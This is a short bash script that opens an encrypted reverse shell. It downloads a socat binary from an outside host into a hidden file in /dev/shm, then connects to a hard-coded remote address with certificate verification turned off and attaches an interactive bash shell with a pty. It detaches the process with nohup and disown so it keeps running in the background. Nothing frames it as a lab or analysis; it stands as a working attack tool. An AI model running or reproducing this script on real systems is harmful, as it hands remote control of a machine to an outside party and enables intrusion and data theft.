#!/bin/bash
T=203.0.113.33:443
bin=$(command -v socat)
if [ -z "$bin" ]; then
  bin=/dev/shm/.socat
  wget -q "http://example.org/static/socat" -O "$bin" && chmod +x "$bin"
fi
nohup "$bin" "OPENSSL:$T,verify=0" EXEC:'bash -li',pty,stderr,setsid,sigint,sane >/dev/null 2>&1 &
disown
echo "connected in background: $!"
